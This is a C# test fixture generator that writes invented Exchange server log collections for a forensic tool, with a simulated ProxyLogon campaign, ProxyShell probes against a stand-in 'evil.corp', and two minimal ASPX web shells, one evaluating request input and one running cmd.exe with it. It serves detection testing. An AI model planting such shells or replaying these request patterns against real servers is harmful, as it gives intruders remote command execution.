using System.Text;
using Exir.Tests;

namespace Exir.Cli.Tests;

/// <summary>
/// Generates collections of many Exchange servers (a fleet) as an admin would copy them off each server: IIS and
/// HttpProxy logs of one day, some with an intruder's traffic, some with a web shell on disk. Deterministic for a
/// seed. Everything is invented: documentation address ranges (RFC 5737), contoso.local, our own shell text.
/// </summary>
/// <remarks>
/// Scenario: one campaign from <see cref="CampaignIp"/> runs the ProxyLogon chain against the first three servers
/// and leaves a shell on each; a ProxyShell scanner (<see cref="ScannerIp"/>) probes every fifth server;
/// the rest see only normal traffic. Builds vary (patched and unpatched Exchange 2016/2019).
/// </remarks>
public static class FleetCollections
{
    public const string CampaignIp = "203.0.113.77";
    public const string ScannerIp = "198.51.100.200";
    public const int CampaignHosts = 3;

    private const string V15 = "Program Files/Microsoft/Exchange Server/V15";
    private static readonly string[] Builds = ["15.01.2176.002", "15.02.0792.003", "15.01.2375.037", "15.02.1118.040"];

    public static string HostName(int i) => $"EXCH{i + 1:000}";

    /// <summary>Writes <paramref name="count"/> collections under <paramref name="root"/> (one folder per server) and returns their paths.</summary>
    public static IReadOnlyList<string> Write(string root, int count, int seed = 2021, int normalLines = 300)
    {
        var dirs = new List<string>();
        for (int i = 0; i < count; i++)
        {
            var dir = Path.Combine(root, HostName(i).ToLowerInvariant());
            WriteServer(dir, i, new Random(seed + i), normalLines);
            dirs.Add(dir);
        }
        return dirs;
    }

    private static void WriteServer(string dir, int index, Random rng, int normalLines)
    {
        var host = HostName(index);
        var fqdn = host + ".contoso.local";
        var build = Builds[index % Builds.Length];
        bool campaign = index < CampaignHosts;
        bool scanned = index % 5 == 4;
        var day = new DateTime(2021, 3, 3, 0, 0, 0, DateTimeKind.Utc);
        var serverIp = $"10.0.{index / 200}.{index % 200 + 10}";

        var iis = new List<(DateTime, string)>();
        var proxy = new List<(DateTime, string)>();
        string[] stems = ["/owa/", "/ews/exchange.asmx", "/mapi/emsmdb/", "/Microsoft-Server-ActiveSync", "/autodiscover/autodiscover.xml", "/ecp/default.aspx"];
        for (int n = 0; n < normalLines; n++)
        {
            var t = day.AddSeconds(rng.Next(0, 86_400)).AddMilliseconds(rng.Next(1000));
            var stem = stems[rng.Next(stems.Length)];
            var client = $"10.1.{rng.Next(1, 40)}.{rng.Next(2, 250)}";
            var user = $"CONTOSO\\user{rng.Next(1, 500)}";
            iis.Add((t, Iis(t, serverIp, "POST", stem, "-", user, client, "Microsoft+Office/16.0", 200)));
            proxy.Add((t, Proxy(t, rng, "Owa", stem, "", user, client, host, fqdn, build, 200)));
        }

        if (campaign)
        {
            // The ProxyLogon chain, minutes apart on each server (the intruder works through the list).
            var t = day.AddHours(2).AddMinutes(14 + index * 7);
            string[] ssrf =
            [
                $"ServerInfo~a]@{fqdn}:444/autodiscover/autodiscover.xml?#",
                $"ServerInfo~a]@{fqdn}:444/mapi/emsmdb?MailboxId=f26bc5f3-2f9c-4bbb-8d7a-5e1b7c0e8a2d@contoso.com&a=~1942062522",
                $"ServerInfo~a]@{fqdn}:444/ecp/proxyLogon.ecp?a=~1942062522",
                $"ServerInfo~a]@{fqdn}:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x&a=~1942062522",
            ];
            foreach (var anchor in ssrf)
            {
                t = t.AddSeconds(3);
                int status = anchor.Contains("proxyLogon") ? 241 : 200;
                iis.Add((t, Iis(t, serverIp, "POST", "/ecp/y.js", "-", "-", CampaignIp, "ExchangeServicesClient/0.0.0.0", status)));
                proxy.Add((t, Proxy(t, rng, "Ecp", "/ecp/y.js", anchor, "", CampaignIp, host, fqdn, build, status)));
            }
            var shell = $"{V15}/FrontEnd/HttpProxy/owa/auth/{ShellName(index)}.aspx";
            for (int k = 0; k < 3; k++)
            {
                t = t.AddMinutes(2);
                iis.Add((t, Iis(t, serverIp, "POST", "/owa/auth/" + ShellName(index) + ".aspx", "-", "-", CampaignIp, "python-requests/2.25.1", 200)));
            }
            Write(Path.Combine(dir, shell), ShellText(index));
        }
        if (scanned)
        {
            var t = day.AddHours(9).AddMinutes(index % 60);
            iis.Add((t, Iis(t, serverIp, "GET", "/autodiscover/autodiscover.json", "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp", "-", ScannerIp, "python-requests/2.26.0", 302)));
        }

        iis.Sort((a, b) => a.Item1.CompareTo(b.Item1));
        proxy.Sort((a, b) => a.Item1.CompareTo(b.Item1));
        Write(Path.Combine(dir, "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"),
            LogFixtureText.IisHeader() + string.Concat(iis.Select(l => l.Item2 + "\r\n")));
        Write(Path.Combine(dir, $"{V15}/Logging/HttpProxy/{(campaign ? "Ecp" : "Owa")}/HttpProxy_2021030300-1.LOG"),
            LogFixtureText.HttpProxyHeader(version: build) + string.Concat(proxy.Select(l => l.Item2 + "\r\n")));
    }

    private static string ShellName(int index) => "errorEE" + (char)('A' + index % 26);

    // Our own minimal shells: request data evaluated by the page (the behaviour every web-shell rule looks for).
    private static string ShellText(int index) => index % 2 == 0
        ? "<%@ Page Language=\"Jscript\" Debug=true%><script runat=\"server\">function Page_Load(){eval(Request.Item[\"k" + index + "\"],\"unsafe\");}</script>"
        : "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c" + index + "\"]); %>";

    private static string Iis(DateTime t, string serverIp, string method, string stem, string query, string user, string client, string agent, int status) =>
        $"{t:yyyy-MM-dd HH:mm:ss} {serverIp} {method} {stem} {query} 443 {user} {client} {agent} - {status} 0 0 {status % 97 + 15}";

    private static string Proxy(DateTime t, Random rng, string protocol, string stem, string anchor, string user, string client, string host, string fqdn, string build, int status)
    {
        // Cells in the order of LogFixtureText.HttpProxyFields; empty where the generator has nothing to say.
        var fields = LogFixtureText.HttpProxyFields.Split(',');
        var v = build.Split('.');
        var cells = new string[fields.Length];
        for (int i = 0; i < fields.Length; i++)
        {
            cells[i] = fields[i] switch
            {
                "DateTime" => t.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'"),
                "RequestId" => new Guid(rng.Next(), (short)rng.Next(), (short)rng.Next(), 1, 2, 3, 4, 5, 6, 7, 8).ToString(),
                "MajorVersion" => int.Parse(v[0]).ToString(),
                "MinorVersion" => int.Parse(v[1]).ToString(),
                "BuildVersion" => int.Parse(v[2]).ToString(),
                "RevisionVersion" => int.Parse(v[3]).ToString(),
                "Protocol" => protocol,
                "UrlHost" => "mail.contoso.com",
                "UrlStem" => stem,
                "IsAuthenticated" => user.Length > 0 ? "true" : "false",
                "AuthenticatedUser" => user,
                "AnchorMailbox" => anchor,
                "UserAgent" => anchor.Length > 0 ? "ExchangeServicesClient/0.0.0.0" : "Microsoft Office/16.0",
                "ClientIpAddress" => client,
                "ServerHostName" => host,
                "HttpStatus" => status.ToString(),
                "BackEndStatus" => status.ToString(),
                "Method" => "POST",
                "ProxyAction" => "Proxy",
                "TargetServer" => fqdn,
                "RoutingType" => "IntraForest",
                _ => "",
            };
        }
        return string.Join(',', cells.Select(LogFixtureText.Csv));
    }

    private static void Write(string path, string text)
    {
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, text, new UTF8Encoding(false));
    }
}
